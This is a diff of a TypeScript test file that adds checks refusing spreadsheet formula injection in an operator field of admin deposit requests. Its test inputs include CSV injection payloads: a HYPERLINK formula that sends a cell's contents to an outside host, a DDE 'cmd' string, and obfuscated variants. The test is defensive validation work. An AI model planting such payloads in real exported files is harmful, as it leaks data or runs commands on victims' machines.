@@ -680,7 +680,14 @@ describe("the CSV's text cells (a security review, session 48)", () => {
       entryPrice: '100',
       collateral: '10',
     });
-    const deposit = (key: string) => ({ action: 'deposit', amount: '1', idempotencyKey: key });
+    // With an operator (required since session 51): without it every deposit was refused, whatever its key.
+    const deposit = (key: string) => ({
+      action: 'deposit',
+      amount: '1',
+      idempotencyKey: key,
+      operator: 'jane',
+    });
+    expect(adminRequestSchema.safeParse(deposit('k1')).success).toBe(true);
     for (const sign of ['=', '+', '@', '\t', '\r', '|', '(', '"', '!'])
       for (const request of [
         open(`${sign}p1`),
@@ -690,6 +697,31 @@ describe("the CSV's text cells (a security review, session 48)", () => {
       ])
         expect(adminRequestSchema.safeParse(request).success, JSON.stringify(request)).toBe(false);
     expect(adminRequestSchema.safeParse(open('-p1')).success).toBe(true);
+  });
+
+  // review51-admin-operator-formula: `declaredOperator`, a CSV column since session 51, is whatever the admin
+  // function's invoker wrote: a cell it began with a formula sign, a spreadsheet would run.
+  it('refuses a declared operator a spreadsheet would read as a formula: it begins with a letter or a digit', () => {
+    const deposit = (operator: string) => ({
+      action: 'deposit',
+      amount: '1',
+      idempotencyKey: 'k1',
+      operator,
+    });
+    for (const operator of [
+      '=HYPERLINK("https://example.com/?"&A1,"jane")',
+      "+1+cmd|' /C calc'!A0",
+      '-1+1',
+      '@SUM(1+1)',
+      ' =1+1', // trimmed first: the cell would begin with =
+      '\uff1d1+1', // a full-width equals sign, which some spreadsheets take for one
+      '(ops) jane',
+    ])
+      expect(adminRequestSchema.safeParse(deposit(operator)).error?.issues[0]?.message, operator).toBe(
+        'must begin with a letter or a digit (a spreadsheet reads a cell beginning with = + - @ as a formula)',
+      );
+    for (const operator of ['arn:aws:iam::123456789012:user/jane', 'Zoë (treasury)', '42-ops', 'jane=ops'])
+      expect(adminRequestSchema.safeParse(deposit(operator)).success, operator).toBe(true);
   });
 });
 
